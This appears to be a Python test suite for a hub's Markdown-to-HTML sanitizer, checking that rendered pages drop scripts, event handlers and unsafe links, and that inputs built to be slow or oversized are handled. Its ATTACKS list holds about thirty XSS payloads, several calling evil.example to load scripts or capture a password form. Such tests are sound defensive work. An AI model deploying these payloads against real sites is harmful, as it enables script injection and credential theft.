from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pairsmith.hub.repos import markdown
from pairsmith.hub.repos.markdown import MarkdownError, cut, place, render
from support.slow import slow

PAGE = "/datasets/ann/pets"
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='x'></object><embed src='x'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<img src='data:image/png;base64,aa'>",
    "<form action='https://evil.example'><input name=password type=password><button>x</button>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='https://evil.example/'>",
    "<div style='position:fixed' class=box id=main onclick=alert(1)>x</div>",
    "<details ontoggle=alert(1) open>x</details>",
    "<a href='x' target=_blank name=csrf id=main>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea></main></textarea><select><option>x</select>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "</article></div></main><header>x</header>",
    "`<script>alert(1)</script>`\n\n    <script>alert(1)</script>\n",
]


class Sieve(HTMLParser):
    """Collects what a page must not hold."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[object] = []

    def handle_starttag(self, tag, attrs):
        held = dict(attrs)
        if tag not in markdown.TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "class", "name", "target", "srcset"}:
                self.wrong.append((tag, name))
            if name == "id" and not value.startswith("card-"):
                self.wrong.append((tag, name, value))
            scheme = re.match(r"\s*([a-z][a-z0-9+.\-]*):", value or "", re.IGNORECASE)
            if name in {"href", "src"} and scheme and scheme[1].lower() not in markdown.SCHEMES:
                self.wrong.append((tag, name, value))
        if tag == "input" and held != {"type": "checkbox", "disabled": "", **held}:
            self.wrong.append((tag, attrs))

    def handle_endtag(self, tag):
        if tag not in markdown.TAGS:
            self.wrong.append(tag)

    def handle_comment(self, data):
        self.wrong.append(data)


def to_html(text: str, base: str = "", revision: str = "main") -> str:
    html = render(cut(text), bool(base))
    return place(html, base, revision) if base else html


def wrong_in(html: str) -> list[object]:
    sieve = Sieve()
    sieve.feed(html)
    sieve.close()
    return sieve.wrong


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_acts_comes_through(attack):
    for text in (
        attack,
        f"# A title\n\n{attack}\n\nmore",
        f"> - {attack}\n\n| a |\n|-|\n| {attack}",
    ):
        assert wrong_in(to_html(text, PAGE)) == []


def test_the_sieve_of_these_tests_finds_something():
    assert all(
        wrong_in(html)
        for html in (
            "<script>",
            "<p onclick=x>",
            "<a href='javascript:x'>",
            "<p class=x>",
            "<h1 id=main>",
            "<input type=text>",
            "</main>",
        )
    )


@given(
    st.lists(st.sampled_from([*ATTACKS, "<", ">", "'", '"', "`", "\n", "**", "[", "](", "&lt;"]))
)
def test_nothing_that_acts_comes_through_whatever_it_stands_in(parts):
    assert wrong_in(to_html("".join(parts), PAGE)) == []


def test_markdown_is_rendered():
    html = to_html(
        "# A title\n\n~~old~~ **new**\n\n"
        "| a | b |\n|--:|:-:|\n| 1 | 2 |\n\n- [x] done\n- [ ] to do\n"
    )
    assert '<h2 id="card-a-title">A title</h2>' in html
    assert "<s>old</s> <strong>new</strong>" in html
    assert '<td align="right">1</td>' in html
    assert '<td align="center">2</td>' in html
    assert html.count('type="checkbox"') == html.count('disabled=""') == 2  # in either order
    assert html.count(' checked="') == 1


def test_headings_have_names_of_their_own_that_links_reach():
    html = to_html("[down](#same)\n\n# Same\n\n# Same\n\n# Über *uns*, <b>1</b>\n")
    assert 'href="#card-same"' in html
    assert re.findall(r'id="([^"]*)"', html)[:2] == ["card-same", "card-same-1"]


def test_relative_addresses_lead_to_the_files_of_the_revision():
    html = to_html("[a](sub/a.txt) ![b](b.png) <img src='c.png'> [d](../../x)", PAGE, "feat/x")
    assert f'href="{PAGE}/blob/feat%2Fx/sub/a.txt"' in html
    assert f'src="{PAGE}/resolve/feat%2Fx/b.png"' in html
    assert f'src="{PAGE}/resolve/feat%2Fx/c.png"' in html
    assert f'href="{PAGE}/x"' in html


def test_other_addresses_stay_and_are_not_vouched_for():
    html = to_html(
        "[a](https://example.org/a?b=c#d) [m](mailto:ann@example.org) [s](/datasets)", PAGE
    )
    assert 'href="https://example.org/a?b=c#d"' in html
    assert 'href="mailto:ann@example.org"' in html
    assert 'href="/datasets"' in html
    assert html.count('rel="nofollow noopener"') == 3


def test_without_a_page_relative_addresses_stay():
    assert 'href="a.txt"' in to_html("[x](a.txt)")


def test_a_long_text_is_cut_and_says_so():
    html = to_html("word " * (markdown.MAX_TEXT_CHARS // 5) + "the end of it")
    assert "the end of it" not in html
    assert "too long for a page" in html


@pytest.mark.parametrize(
    "text",
    ["[" * 50_000, "> " * 50_000, "# same\n" * 10_000, "*a _b " * 10_000, "<div>" * 200],
    ids=["brackets", "quotes", "headings", "stars", "elements"],
)
def test_a_text_made_to_be_slow_is_rendered_too(text):
    assert len(to_html(text, PAGE)) > 0


@pytest.mark.parametrize(
    "text",
    [
        "".join(f"<b a={number}>" for number in range(5_500)) + "\n\n" + "x\n\n" * 5_500,
        "".join(f"<b a={number}>" for number in range(5_500)) + "<p>x" * 5_500,
        "<div>" * 5_000,
        "> - x <details><summary>a</summary>\n\n" * 400,
        pytest.param("a*" * 100_000, marks=slow),
        "| a " * 5_000 + "\n" + "|-" * 5_000 + "\n" + "x\n" * 5_000,
        pytest.param("#\n" * 10_000, marks=slow),
        "&" * 200_000,
        "[a]: /" + "x" * 10_000 + "\n\n" + "[a] " * 1_000,
        "<a href=x><b>" * 290 + "</div>" * 10 + "<p>x" * 2_000,
    ],
    ids=[
        "reopened by paragraphs of Markdown", "reopened by paragraphs of HTML", "deep",
        "details", "parts", "cells", "headings", "entities", "references", "links reopened",
    ],
)  # fmt: skip
def test_a_text_of_which_too_much_would_be_made_is_refused(text):
    with pytest.raises(MarkdownError):
        to_html(text, PAGE)


def test_elements_whose_ends_are_left_out_are_not_counted_as_open():
    text = "<table>" + "<tr><td>1<td>2\n" * 1_000 + "</table>\n\n" + "<br><img src=a.png>" * 500
    assert to_html(text).count("<td>") == 2_000


def test_no_more_than_so_many_lines_are_rendered():
    html = to_html("- a\n" * (markdown.MAX_LINES + 1))
    assert html.count("<li>") == markdown.MAX_LINES
    assert "too long for a page" in html


def test_what_stands_for_a_repository_cannot_be_written():
    text = "".join(markdown.PLACES) + markdown.AT
    assert to_html(f"a{text}b", PAGE) == "<p>ab</p>\n"


def test_task_lists():
    made = to_html(
        "- [ ] a *b*\n- [x] c\n- [X] `d`\n- [y] e\n- [ ]f\n- [ ]\n\n> 1. [x] z\n\n[ ] no"
    )
    assert made.count('type="checkbox"') == made.count("disabled") == made.count("</label>") == 4
    assert made.count("checked=") == 3
    assert "> a <em>b</em></label>" in made
    assert to_html("- [x] a\n\n[x]: /y").count("<a href") == 1  # a link, as CommonMark has it


@slow
def test_a_very_long_task_list_takes_no_longer_than_another():
    """Each item on its own: what looks back over all before it takes an hour for these."""
    assert to_html("- [ ] a\n" * 8_000).count("<input") == 8_000
